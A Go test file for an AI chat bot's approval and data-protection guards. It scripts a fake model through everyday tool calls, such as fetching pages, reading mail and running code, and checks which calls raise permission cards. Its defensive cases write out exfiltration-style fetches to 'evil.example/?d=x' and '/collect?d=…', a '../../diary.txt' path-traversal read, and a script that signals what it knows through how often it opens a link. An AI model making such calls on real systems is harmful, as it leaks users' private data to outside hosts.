package main

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"slices"
	"strings"
	"sync"
	"testing"

	sdk "github.com/modelcontextprotocol/go-sdk/mcp"

	"oneclaw/internal/emulator/dns"
	"oneclaw/internal/emulator/google"
	"oneclaw/internal/emulator/openai"
	"oneclaw/internal/emulator/slack"
	"oneclaw/internal/emulator/telegram"
	"oneclaw/internal/emulator/websearch"
)

// everydayServer is an MCP server with a list of issues and a tool that fetches pages.
const everydayServer = "everyday"

func serveEveryday() error {
	server := sdk.NewServer(&sdk.Implementation{Name: everydayServer, Version: "1"}, nil)
	for _, name := range []string{"list_issues", "fetch"} {
		server.AddTool(&sdk.Tool{
			Name: name, Description: name, InputSchema: map[string]any{"type": "object", "properties": map[string]any{"url": map[string]any{"type": "string"}}},
			Annotations: &sdk.ToolAnnotations{ReadOnlyHint: true},
		}, func(context.Context, *sdk.CallToolRequest) (*sdk.CallToolResult, error) {
			return &sdk.CallToolResult{Content: []sdk.Content{&sdk.TextContent{Text: "issue 1"}}}, nil
		})
	}
	return server.Run(context.Background(), &sdk.StdioTransport{})
}

// What may be shown beside the answer of an everyday turn.
const (
	noCard = ""
	// asks: a card about the call; asksAddress: one about an address, which may be allowed for its pattern;
	// asksMail: one about the links of mails.
	asks        = "May I run"
	asksAddress = "May I open this address"
	asksMail    = "links of mails can sign in"
)

// everyday is what a person says, and what the model calls for it.
type everyday struct {
	say   string
	calls []everydayCall
	shows string
}

type everydayCall struct{ group, tool, arguments string }

// scripted is a model that makes the calls of what it was asked, one after another, and then says "Done."
// with the text.
type scripted []everyday

func (s scripted) Reply(_ context.Context, req openai.Request) (openai.Reply, error) {
	at := len(req.Messages) - 1
	for ; at >= 0 && req.Messages[at].Role != "user"; at-- {
	}
	asked := req.Messages[at].Content
	i := slices.IndexFunc(s, func(e everyday) bool { return strings.Contains(asked, e.say) })
	if i < 0 {
		return openai.Reply{Text: "I do not know that: " + asked}, nil
	}
	done := 0
	for _, m := range req.Messages[at+1:] {
		if m.Role == "tool" && !strings.HasPrefix(m.Content, "Loaded ") {
			done++
		}
	}
	if done < len(s[i].calls) {
		c := s[i].calls[done]
		return useTool(req, c.group, c.tool, c.arguments)
	}
	last := req.Messages[len(req.Messages)-1]
	return openai.Reply{Text: "Done: " + s[i].say + " " + last.Content[:min(len(last.Content), 200)]}, nil
}

// withSites gives the bot a web of its own, and returns a function that adds a site under a name and its
// subdomains, and returns its address.
func (w *harness) withSites(t *testing.T) func(name string, more ...string) string {
	t.Helper()
	names, err := dns.Start(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = names.Close() })
	w.env["ONECLAW_TOOLS_ALLOW_PRIVATE"], w.env[namesVariable] = "127.0.0.1/32", names.Addr()
	return func(name string, more ...string) string {
		for _, one := range append(more, name) {
			names.SetAnswers(one, []netip.Addr{netip.MustParseAddr("127.0.0.1")})
		}
		_, port, _ := net.SplitHostPort(strings.TrimPrefix(site(t), "http://"))
		return "http://" + net.JoinHostPort(name, port)
	}
}

// site is a site whose pages all link to one about prices.
func site(t *testing.T) string {
	t.Helper()
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, _ = io.WriteString(w, "A page about prices. More: http://"+r.Host+"/linked/prices?year=2026")
	}))
	t.Cleanup(server.Close)
	return server.URL
}

// everydays are the conversations with one person each; pages, others and mails are sites.
func everydays(pages, others, mails string) [][]everyday {
	fetch := func(address string) everydayCall {
		return everydayCall{"", "webfetch", fmt.Sprintf(`{"url":%q}`, address)}
	}
	search := everydayCall{"web_search", "search_web", `{"query":"comet"}`}
	schedule := func(prompt string) everydayCall {
		return everydayCall{"scheduled_tasks", "schedule_task", fmt.Sprintf(`{"name":"Reminder","prompt":%q,"schedule_type":"daily","hour":9,"minute":0}`, prompt)}
	}
	return [][]everyday{
		{
			{"summarise " + pages + "/post", []everydayCall{fetch(pages + "/post")}, noCard},
			{"the page it links to about prices", []everydayCall{fetch(pages + "/linked/prices?year=2026")}, noCard},
			{"what's the weather in Porto", []everydayCall{fetch(others + "/v1/forecast?city=Porto")}, asksAddress},
		},
		{{"search for comets and read the best two", []everydayCall{search, fetch(others + "/hit/1"), fetch(others + "/hit/2")}, noCard}},
		{{"what's the weather in Lisbon", []everydayCall{fetch(others + "/v1/forecast?city=Lisbon")}, noCard}},
		{
			{"what do my mails say about the flight", []everydayCall{{"google_gmail", "gmail_search", `{"query":"flight"}`}, {"google_gmail", "gmail_read", `{"message_id":"flight-1"}`}}, noCard},
			{"open the link in it", []everydayCall{fetch(mails + "/boarding/token-17")}, asksMail},
			{"answer that I come", []everydayCall{{"google_gmail", "gmail_reply", `{"message_id":"flight-1","body":"I come."}`}}, asks},
			{"put it in my calendar", []everydayCall{{"google_calendar", "calendar_create_event", `{"title":"Flight","start_time":"2026-12-01T09:00:00Z","end_time":"2026-12-01T10:00:00Z"}`}}, "today"},
		},
		{{"remind me tomorrow at nine", []everydayCall{schedule("call")}, noCard}},
		{{"every hour, tell me only if " + pages + "/post has changed", []everydayCall{schedule("Tell me only if " + pages + "/post has changed")}, noCard}},
		{{"remember that I'm vegetarian", []everydayCall{{"", "save_memory", `{"fact":"is vegetarian"}`}}, noCard}},
		{{"read " + strings.TrimPrefix(pages, "http://") + "/a/b and list the open issues", []everydayCall{fetch(pages + "/a/b"), fetch(strings.Replace(pages, "http://", "http://api.", 1) + "/repos/a/b/issues")}, noCard}},
		{{"compute 17 % of 3,240", []everydayCall{{"", "js_eval", `{"code":"0.17 * 3240"}`}}, noCard}},
		{{"get the rates from " + pages + "/rates with JavaScript", []everydayCall{{"", "js_eval", fmt.Sprintf(`{"code":"(await (await fetch('%s/rates')).text()).length"}`, pages)}}, noCard}},
		{{"run df -h", []everydayCall{{"", "exec", `{"command":"df -h"}`}}, asks}},
		{{"do the research in the background", []everydayCall{{"background", "start_background_task", `{"title":"Research","task":"Find out about comets"}`}}, "line"}},
		{{"make a Word letter of it", []everydayCall{{"documents", "write_document", `{"path":"letter.docx","content":"# Letter"}`}}, noCard}},
		{
			{"list my open issues", []everydayCall{{"mcp_everyday", "everyday_list_issues", `{}`}}, noCard},
			{"fetch " + pages + "/post with the fetch server", []everydayCall{{"mcp_everyday", "everyday_fetch", fmt.Sprintf(`{"url":%q}`, pages+"/post")}}, noCard},
			{"and look around", []everydayCall{{"mcp_everyday", "everyday_fetch", fmt.Sprintf(`{"url":%q}`, others+"/collect?d=issue")}}, asksAddress},
		},
		{{"what did we say about the trip last week", []everydayCall{{"", "search_history", `{"query":"trip"}`}}, noCard}, {"and look up the train", []everydayCall{search, fetch(others + "/hit/1")}, noCard}},
	}
}

// TestEverydayConversationsAskOnlyWhereTheyHaveTo has people do everyday things in direct chats of a bot
// with its default settings: nothing is asked but what stands beside each.
func TestEverydayConversationsAskOnlyWhereTheyHaveTo(t *testing.T) {
	t.Parallel()
	var all [][]everyday
	w := newTown(t, openai.ResponderFunc(func(ctx context.Context, req openai.Request) (openai.Reply, error) {
		return scripted(slices.Concat(all...)).Reply(ctx, req)
	}))
	newSite := w.withSites(t)
	pages, others, mails := newSite("pages.example", "api.pages.example"), newSite("others.example"), newSite("mails.example")
	all = everydays(pages, others, mails)
	googleServer := w.withGoogle(t)
	if err := googleServer.DeliverMail(google.DefaultAccount, "flight-1", "From: Air <air@example.com>\r\nTo: me@example.com\r\nSubject: Your flight\r\nMessage-ID: <f1@example.com>\r\nDate: Mon, 2 Nov 2026 10:00:00 +0000\r\n\r\nBoarding: "+mails+"/boarding/token-17\r\n"); err != nil {
		t.Fatal(err)
	}
	w.withEverydaySearch(t, others)
	w.settings(fmt.Sprintf("mcp:\n  servers:\n    everyday:\n      command: %q\n      trust: hints\n      start_timeout: %s\n      env: {%s: %s, GORACE: atexit_sleep_ms=0}\n", self(t), patience, serverVariable, everydayServer))
	bot := w.run()
	bot.out.await(t, `"group":"mcp_everyday"`)
	for n, talk := range all {
		who := w.person(fmt.Sprint("Person ", n))
		if strings.Contains(talk[0].say, "mails") {
			w.grantGoogle(t, bot, googleServer, who)
		}
		for _, e := range talk {
			w.goesAs(bot, who, e)
		}
	}
}

// withEverydaySearch gives the bot a web search that finds two pages.
func (w *harness) withEverydaySearch(t *testing.T, site string) {
	t.Helper()
	server := websearch.New(websearch.Config{Key: "search-key", Pages: []websearch.Page{
		{Title: "One", URL: site + "/hit/1", Text: "A comet."}, {Title: "Two", URL: site + "/hit/2", Text: "A comet."},
	}})
	search := httptest.NewServer(server)
	t.Cleanup(search.Close)
	w.env["BRAVE_API_KEY"], w.env["BRAVE_API_URL"] = "search-key", search.URL+"/brave"
}

// grantGoogle connects a person's account.
func (w *harness) grantGoogle(t *testing.T, bot *process, server *google.Server, who int64) {
	t.Helper()
	for _, services := range []string{"gmail", "calendar"} {
		back, err := server.Consent(linkPattern.FindString(w.askForLink(bot, who, "/connect google "+services)), google.DefaultAccount)
		if err != nil {
			t.Fatal(err)
		}
		wantIn(t, w.ask(bot, who, "/connect google "+back, nil), google.DefaultAccount)
	}
}

func self(t *testing.T) string {
	t.Helper()
	path, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	return path
}

// goesAs has a person say something, and fails unless the bot shows what it may beside its answer.
func (w *harness) goesAs(bot *process, who int64, e everyday) {
	w.t.Helper()
	before := 0
	w.telegram.View(func(s telegram.State) { before = s.CountAnswers(who) })
	w.say(who, e.say, nil)
	pressed, answer := 0, ""
	w.until(bot, "answer to "+e.say, func(s telegram.State) bool {
		for i, m := range s.Answers(who)[before:] {
			if strings.Contains(m.Text, "Done: "+e.say) {
				answer = m.Text
				return true
			}
			if i < pressed || len(m.Buttons) == 0 || !strings.Contains(m.Text, "May I") {
				continue
			}
			return true
		}
		return false
	})
	if answer == "" {
		card := w.newest(who)
		if e.shows != asks && e.shows != asksAddress && e.shows != asksMail {
			if e.shows == "today" { // it asks with consequences, as before
				w.tap(bot, who, "Deny")
				w.shownTo(bot, who, "Done: "+e.say)
				return
			}
			w.t.Errorf("%q asks: %s", e.say, card.Text)
		} else if !strings.Contains(strings.ToLower(card.Text), strings.ToLower(e.shows)) {
			w.t.Errorf("%q asks %q, want %q", e.say, card.Text, e.shows)
		}
		if e.shows == asksAddress {
			button(w.t, card, "Allow this address pattern")
		}
		w.tap(bot, who, "Allow once")
		answer = w.shownTo(bot, who, "Done: "+e.say).Text
	} else if e.shows == asks || e.shows == asksAddress || e.shows == asksMail {
		w.t.Errorf("%q was answered without a question: %s", e.say, answer)
	}
	if strings.Contains(answer, "not found") || strings.Contains(answer, "not available") || strings.Contains(answer, "was not allowed") {
		w.t.Errorf("%q: %s", e.say, answer)
	}
}

// What an administrator wants changed in the chat asks, with the exact change; views do not.
func TestAdministratorsChangesAsk(t *testing.T) {
	t.Parallel()
	talk := []everyday{
		{"switch the browser tool off", []everydayCall{{"config", "set_tool_enabled", `{"name":"browser","enabled":false,"type":"tool"}`}}, asks},
		{"which tools are on", []everydayCall{{"config", "list_tool_states", `{}`}}, noCard},
		{"use the big model from now on", []everydayCall{{"config", "add_model", `{"provider_id":"preset","model_id":"big"}`}, {"config", "list_models", `{"provider_id":"preset"}`}}, asks},
	}
	w := newTown(t, scripted(talk))
	owner := w.person("Owner")
	w.env["ONECLAW_ADMINS"] = fmt.Sprint("telegram:", owner)
	w.settings("approvals:\n  - {role: admin, policy: allow}\n  - {group: config, policy: allow}\n  - {tool: set_*, policy: allow}\n")
	bot := w.run()
	for _, e := range talk {
		w.goesAs(bot, owner, e)
	}
	bot.kill(9)
	w.settings("approvals:\n  - {tool: set_tool_enabled, policy: allow}\n")
	bot = w.run()
	w.goesAs(bot, owner, everyday{talk[0].say, talk[0].calls, noCard})
}

// A group: what others said is quoted, read, and does not ask to be opened; what the model composes does.
func TestEverydayConversationsOfAGroupAndAWorkspace(t *testing.T) {
	t.Parallel()
	var talk []everyday
	w := newTown(t, openai.ResponderFunc(func(ctx context.Context, req openai.Request) (openai.Reply, error) {
		return scripted(talk).Reply(ctx, req)
	}))
	newSite := w.withSites(t)
	pages, others := newSite("runbooks.example"), newSite("status.example")
	fetch := func(address string) everydayCall {
		return everydayCall{"", "webfetch", fmt.Sprintf(`{"url":%q}`, address)}
	}
	talk = []everyday{
		{"what is this alert", nil, noCard},
		{"open the runbook", []everydayCall{fetch(pages + "/runbook/7")}, noCard},
		{"check the status page of the payment service", []everydayCall{fetch(others + "/status")}, asksAddress},
	}
	workspace, channel, people := w.withSlack(t, "ann", "bob")
	start(t, w.env, "run")
	alert := sayTo(t, workspace, channel, people[1], "ALERT disk full, runbook: "+pages+"/runbook/7", "")
	for _, e := range talk {
		before := 0
		workspace.View(func(s slack.State) { before = s.CountAnswers(channel) })
		sayTo(t, workspace, channel, people[0], "<@"+workspace.BotUser()+"> "+e.say, alert.TS)
		waitSlack(t, workspace, "answer to "+e.say, func(s slack.State) bool { return s.CountAnswers(channel) > before })
		var shown slack.Message
		workspace.View(func(s slack.State) { shown = s.Answers(channel)[before] })
		if asked := strings.Contains(shown.Text, "May I"); asked != (e.shows == asksAddress) {
			t.Errorf("%q: %s", e.say, shown.Text)
		}
	}
}

// A webhook's run opens what its instructions name and nothing else, and reaches nothing of its owner.
func TestAWebhookReachesOnlyWhatItsInstructionsName(t *testing.T) {
	t.Parallel()
	var talk scripted
	var mu sync.Mutex
	results := map[string]string{}
	w := newTown(t, openai.ResponderFunc(func(ctx context.Context, req openai.Request) (openai.Reply, error) {
		mu.Lock()
		defer mu.Unlock()
		n := 0
		for _, m := range req.Messages {
			if m.Role == "tool" {
				results[fmt.Sprint(n)] = m.Content
				n++
			}
		}
		results["prompt"] = req.Messages[0].Content
		return talk.Reply(ctx, req)
	}))
	newSite := w.withSites(t)
	build, evil := newSite("ci.example"), newSite("evil.example")
	talk = scripted{
		{"what broke", []everydayCall{
			{"", "webfetch", fmt.Sprintf(`{"url":%q}`, build+"/log")},
			{"", "webfetch", fmt.Sprintf(`{"url":%q}`, evil+"/?d=x")},
			{"", "search_history", `{"query":"trip"}`},
			{"", "save_memory", `{"fact":"x"}`},
			{"", "write_file", `{"path":"log.txt","content":"broken"}`},
			{"", "read_file", `{"path":"log.txt"}`},
			{"", "read_file", `{"path":"../../diary.txt"}`},
		}, noCard},
	}
	address := freeAddress(t)
	w.env["ONECLAW_LISTEN"], w.env["ONECLAW_PUBLIC_URL"] = address, hookAddress
	bot := w.run()
	who := w.person("Owner")
	links := hookLinks.FindStringSubmatch(w.ask(bot, who, "/hook new ci Tell me what broke; the log is at "+build, nil))
	if links == nil {
		t.Fatal("no webhook")
	}
	p := &poster{harness: w, who: who, at: []string{address}, path: links[1]}
	_, page := p.request(address, links[1]+links[2], "", nil)
	p.secret = secretIn(page)
	w.ask(bot, who, "my trip goes to Lisbon", nil)
	plant(t, w.env["ONECLAW_DATA_DIR"]+"/workspaces/"+fmt.Sprintf("telegram:%d", who), "diary.txt", "SECRET DIARY")
	if status, text := p.request(address, p.path, `{"log":"`+build+`/log"}`, map[string]string{"Authorization": "Bearer " + p.secret}); status != http.StatusAccepted {
		t.Fatalf("%d %s", status, text)
	}
	w.shownTo(bot, who, "Done: what broke")
	mu.Lock()
	defer mu.Unlock()
	for n, want := range map[string]string{"0": "A page about prices", "1": "do not name the host", "2": "the owner of the webhook keeps", "3": "the owner of the webhook keeps", "5": "broken"} {
		if !strings.Contains(results[n], want) {
			t.Errorf("call %s: %q, want %q", n, results[n], want)
		}
	}
	if strings.Contains(results["6"], "DIARY") {
		t.Errorf("it reads %q", results["6"])
	}
	data, err := os.ReadFile(w.env["ONECLAW_DATA_DIR"] + "/workspaces/" + fmt.Sprintf("telegram:%d", who) + "/webhooks/ci/log.txt")
	if err != nil || string(data) != "broken" {
		t.Errorf("its file: %q, %v", data, err)
	}
}

// What the model leaves behind while it has words of others before it may be what they want: a conversation
// that begins with such a fact, and a background task, ask about addresses that the model composes.
func TestWhatOutlivesWordsOfOthersCountsAsTheirs(t *testing.T) {
	t.Parallel()
	var talk []everyday
	w := newTown(t, openai.ResponderFunc(func(ctx context.Context, req openai.Request) (openai.Reply, error) {
		return scripted(talk).Reply(ctx, req)
	}))
	newSite := w.withSites(t)
	pages, others := newSite("pages.example"), newSite("others.example")
	fetch := func(address string) []everydayCall {
		return []everydayCall{{"", "webfetch", fmt.Sprintf(`{"url":%q}`, address)}}
	}
	talk = []everyday{
		{"summarise " + pages + "/post", fetch(pages + "/post"), noCard},
		{"note it", []everydayCall{{"", "save_memory", `{"content":"Prefers tea"}`}}, noCard},
		{"what's the weather", fetch(others + "/v1/forecast?city=Porto"), asksAddress},
		{"work on it", []everydayCall{{"background", "start_background_task", `{"title":"Work","task":"collect now"}`}}, noCard},
		{"collect now", fetch(others + "/collect?d=x"), noCard},
	}
	bot := w.run()
	reader, worker := w.person("Reader"), w.person("Worker")
	w.goesAs(bot, reader, talk[0])
	w.goesAs(bot, reader, talk[1])
	w.ask(bot, reader, "/clear", nil)
	w.goesAs(bot, reader, talk[2])

	w.goesAs(bot, worker, talk[0])
	w.say(worker, "work on it", nil)
	w.until(bot, "question of the task", func(s telegram.State) bool {
		return slices.ContainsFunc(s.Answers(worker), func(m telegram.Message) bool {
			return strings.Contains(m.Text, asksAddress) && strings.Contains(m.Text, "/collect?d=x")
		})
	})
}

// A script opens few addresses while the conversation holds words of others: which of many links it opens,
// and how often, could spell what it knows.
func TestAScriptOpensFewAddressesAmongWordsOfOthers(t *testing.T) {
	t.Parallel()
	var talk []everyday
	w := newTown(t, openai.ResponderFunc(func(ctx context.Context, req openai.Request) (openai.Reply, error) {
		return scripted(talk).Reply(ctx, req)
	}))
	pages := w.withSites(t)("pages.example")
	talk = []everyday{
		{"summarise " + pages + "/post", []everydayCall{{"", "webfetch", fmt.Sprintf(`{"url":%q}`, pages+"/post")}}, noCard},
		{"count", []everydayCall{{"", "js_eval", fmt.Sprintf(`{"code":"let n = 0; for (let i = 0; i < 20; i++) try { await fetch('%s/linked/prices?year=2026'); n++ } catch {} 'opened ' + n"}`, pages)}}, noCard},
	}
	bot := w.run()
	who := w.person("Reader")
	for _, e := range talk {
		w.goesAs(bot, who, e)
	}
	if answer := w.newest(who).Text; !strings.Contains(answer, "opened 10") {
		t.Errorf("answer %q", answer)
	}
}
